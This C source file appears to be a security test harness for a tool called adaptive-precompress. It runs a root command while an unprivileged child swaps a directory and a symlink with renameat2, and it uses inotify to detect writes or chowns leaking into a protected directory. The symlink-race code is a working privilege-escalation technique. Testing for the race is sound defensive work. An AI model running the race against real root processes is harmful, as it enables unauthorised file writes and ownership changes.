/* swap-race USER REAL LINK WATCH COMMAND...: run COMMAND (as the caller,
 * root) while a child running as USER exchanges REAL, a directory, and
 * LINK, a symbolic link beside it, in a tight loop (renameat2
 * RENAME_EXCHANGE: at every instant one of the two names is the directory
 * and the other the link), and watch the directory WATCH with inotify.
 * An attack on adaptive-precompress run as root on a tree a user owns:
 * LINK points to WATCH, which nothing may write to or chown in.
 *
 * COMMAND starts after the first swap.  Afterwards REAL is the directory
 * again.  Prints "swaps N", then one line per event in WATCH ("create
 * NAME", "attrib NAME"...); exits with COMMAND's status, or 99 when it
 * could not set up. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <pwd.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
    stop = 1;
}

static void fail(const char *what)
{
    fprintf(stderr, "swap-race: %s: %s\n", what, strerror(errno));
    exit(99);
}

/* The attacker: as pw, swap until SIGTERM; the count goes to out (after
 * one byte, written at the first swap, that says it is under way). */
static void attack(const struct passwd *pw, const char *a, const char *b,
                   int out)
{
    struct sigaction sa;
    unsigned long swaps = 0;

    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_term;
    sigaction(SIGTERM, &sa, NULL);
    if (setgroups(0, NULL) != 0 || setgid(pw->pw_gid) != 0
        || setuid(pw->pw_uid) != 0) {
        fail("cannot become the attacker");
    }
    while (!stop) {
        if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) {
            fail("renameat2");
        }
        if (!swaps++ && write(out, "", 1) != 1) {
            fail("write");
        }
    }
    if (write(out, &swaps, sizeof(swaps)) != sizeof(swaps)) {
        fail("write");
    }
    _exit(0);
}

int main(int argc, char **argv)
{
    static const struct { unsigned mask; const char *name; } kinds[] = {
        { IN_CREATE, "create" }, { IN_ATTRIB, "attrib" },
        { IN_MODIFY, "modify" }, { IN_CLOSE_WRITE, "close_write" },
        { IN_MOVED_TO, "moved_to" }, { IN_MOVED_FROM, "moved_from" },
        { IN_DELETE, "delete" }
    };
    char buf[65536]
        __attribute__((aligned(__alignof__(struct inotify_event))));
    unsigned long swaps = 0;
    struct passwd *pw;
    struct stat st;
    pid_t attacker, cmd;
    int in, p[2], status, rc;
    unsigned k;
    ssize_t n;
    char go;

    if (argc < 6) {
        fprintf(stderr, "usage: swap-race USER REAL LINK WATCH COMMAND...\n");
        return 99;
    }
    if (!(pw = getpwnam(argv[1]))) {
        errno = ENOENT;
        fail(argv[1]);
    }
    if ((in = inotify_init1(IN_NONBLOCK | IN_CLOEXEC)) < 0
        || inotify_add_watch(in, argv[4], IN_CREATE | IN_ATTRIB | IN_MODIFY
                             | IN_CLOSE_WRITE | IN_MOVED_TO | IN_MOVED_FROM
                             | IN_DELETE) < 0) {
        fail(argv[4]);
    }
    if (pipe(p) != 0 || (attacker = fork()) < 0) {
        fail("fork");
    }
    if (!attacker) {
        close(p[0]);
        attack(pw, argv[2], argv[3], p[1]);
    }
    close(p[1]);
    if (read(p[0], &go, 1) != 1) {
        fprintf(stderr, "swap-race: the attacker did not start\n");
        return 99;
    }
    if ((cmd = fork()) < 0) {
        fail("fork");
    }
    if (!cmd) {
        execvp(argv[5], argv + 5);
        fail(argv[5]);
    }
    if (waitpid(cmd, &status, 0) < 0) {
        fail("waitpid");
    }
    rc = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
    kill(attacker, SIGTERM);
    if (read(p[0], &swaps, sizeof(swaps)) != sizeof(swaps)) {
        fprintf(stderr, "swap-race: the attacker failed\n");
        return 99;
    }
    waitpid(attacker, NULL, 0);
    if (lstat(argv[2], &st) == 0 && !S_ISDIR(st.st_mode)
        && renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3],
                     RENAME_EXCHANGE) != 0) {
        fail("renameat2");
    }
    printf("swaps %lu\n", swaps);
    while ((n = read(in, buf, sizeof(buf))) > 0) {
        char *q;

        for (q = buf; q < buf + n;
             q += sizeof(struct inotify_event)
                  + ((struct inotify_event *)q)->len) {
            struct inotify_event *e = (struct inotify_event *)q;

            for (k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++) {
                if (e->mask & kinds[k].mask) {
                    printf("%s %s\n", kinds[k].name, e->len ? e->name : ".");
                }
            }
        }
    }
    return rc;
}
